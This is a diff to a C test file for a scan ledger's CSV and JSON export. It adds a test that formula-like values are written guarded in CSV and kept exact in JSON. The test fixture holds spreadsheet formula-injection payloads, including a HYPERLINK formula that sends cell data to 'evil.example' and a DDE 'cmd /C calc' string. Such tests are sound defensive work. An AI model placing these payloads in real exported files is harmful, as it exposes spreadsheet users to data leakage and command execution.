@@ -2,7 +2,10 @@
  * (quoting, pending and unexpected files, fault lists), JSON that an
  * independent parser (Python's json) reads with the same values, and the
  * reviewer's accepts showing at once (the faults' accepted column, a page's
- * verdict) next to the faults of a faulty rescan of an archived file. */
+ * verdict) next to the faults of a faulty rescan of an archived file.
+ * Values a spreadsheet would run as formulas (= + - @ tab first) are
+ * written guarded in CSV ('-prefixed and quoted), plain negative numbers
+ * are not, and the JSON of the same ledger keeps every value exact. */
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -180,6 +183,78 @@ static void test_accepts_at_once(qr_ledger *l)
     free(j);
 }
 
+/* ---- formula injection -------------------------------------------------- */
+
+static void hostile_fixture(qr_ledger *l)
+{
+    qr_err err = {0};
+    const char *t = "file_id,box,expected_pages\n"
+                    "=1+2,@SUM(A1),1\n"
+                    "-0.5,-box,1\n"
+                    "'q,+b,1\n"
+                    "\"=HYPERLINK(\"\"evil.example?\"\"&A1)\",\"=cmd|' /C calc'!A0\",1\n";
+    qr_manifest *m = NULL;
+    CHECKF(qr_manifest_parse("h.csv", (const uint8_t *)t, strlen(t), 0, &m, &err) == QR_OK,
+           "%s", err.msg);
+    qr_ledger_upsert_result r;
+    CHECK(qr_ledger_inventory_upsert(l, m, QR_LEDGER_SRC_MANIFEST, 0, true, &r, &err) == QR_OK);
+    qr_manifest_free(&m);
+    int64_t b = 0;
+    CHECK(qr_ledger_batch_begin(l, NULL, &b, &err) == QR_OK);
+    qr_ledger_page pa = {.page = 1, .source = "\t=cmd.tif", .format = "tiff-g4", .dpi = 300,
+                         .skew_deg = -0.5, .skew_applied_deg = -0.5};
+    qr_ledger_outcome a = {.file_id = "=1+2", .batch = b, .version = 1, .archived = true,
+                           .archive_path = "-out/x.pdf", .archive_sha256 = SHA_A,
+                           .source_fingerprint = FP, .delivered_pages = 1, .pages = &pa,
+                           .n_pages = 1};
+    CHECKF(qr_ledger_commit_file(l, &a, &err) == QR_OK, "%s", err.msg);
+    qr_ledger_page pb = {.page = 1, .source = "@d/b.tif", .format = "tiff-g4", .dpi = 300,
+                         .skew_deg = -12.25};
+    qr_fault fb = {.kind = QR_FAULT_SKEW, .page = 1, .value = -12.25, .threshold = 10};
+    qr_ledger_outcome o = {.file_id = "-0.5", .batch = b, .version = 1, .source_fingerprint = FP,
+                           .delivered_pages = 1, .pages = &pb, .n_pages = 1, .faults = &fb,
+                           .n_faults = 1};
+    CHECKF(qr_ledger_commit_file(l, &o, &err) == QR_OK, "%s", err.msg);
+}
+
+static const char HOSTILE_FILES_CSV[] =
+    "file_id,box,status,expected_pages,delivered_pages,archive,archive_sha256,version\n"
+    "\"''q\",\"'+b\",pending,1,,,,\n"
+    "-0.5,\"'-box\",faulty,1,1,,,\n"
+    "\"'=1+2\",\"'@SUM(A1)\",archived,1,1,\"'-out/x.pdf\"," SHA_A ",1\n"
+    "\"'=HYPERLINK(\"\"evil.example?\"\"&A1)\",\"'=cmd|' /C calc'!A0\",pending,1,,,,\n";
+
+static const char HOSTILE_PAGES_CSV[] =
+    "file_id,page,source,format,width,height,dpi,skew_deg,skew_applied_deg,orientation,verdict,faults,version,origin_batch\n"
+    "-0.5,1,\"'@d/b.tif\",tiff-g4,0,0,300,-12.25,0,0,faulty,skew,1,1\n"
+    "\"'=1+2\",1,\"'\t=cmd.tif\",tiff-g4,0,0,300,-0.5,-0.5,0,ok,,1,1\n";
+
+static const char HOSTILE_FAULTS_CSV[] =
+    "file_id,page,kind,value,threshold,batch,accepted\n"
+    "-0.5,1,skew,-12.25,10,1,0\n";
+
+static void test_formula_guard(void)
+{
+    qr_ledger *l = NULL;
+    qr_err err = {0};
+    CHECKF(qr_ledger_open(":memory:", &l, &err) == QR_OK, "%s", err.msg);
+    if (!l)
+        return;
+    hostile_fixture(l);
+    expect_csv(l, QR_EXPORT_FILES, HOSTILE_FILES_CSV);
+    expect_csv(l, QR_EXPORT_PAGES, HOSTILE_PAGES_CSV);
+    expect_csv(l, QR_EXPORT_FAULTS, HOSTILE_FAULTS_CSV);
+    char *j = export_text(l, QR_EXPORT_FILES, QR_EXPORT_JSON);
+    python_check(j, "[(r[\"file_id\"], r[\"box\"]) for r in d][:3], d[3][\"box\"]",
+                 "[(\"'q\", '+b'), ('-0.5', '-box'), ('=1+2', '@SUM(A1)')] =cmd|' /C calc'!A0");
+    free(j);
+    j = export_text(l, QR_EXPORT_PAGES, QR_EXPORT_JSON);
+    python_check(j, "d[1][\"source\"], d[1][\"skew_deg\"], d[0][\"source\"]",
+                 "\t=cmd.tif -0.5 @d/b.tif");
+    free(j);
+    qr_ledger_close(&l);
+}
+
 int main(void)
 {
     qr_ledger *l = NULL;
@@ -197,5 +272,6 @@ int main(void)
     CHECK(qr_ledger_export_kind_from_name("nope") == -1);
     CHECK(qr_ledger_export_format_from_name("json") == QR_EXPORT_JSON);
     qr_ledger_close(&l);
+    test_formula_guard();
     return qr_test_end();
 }
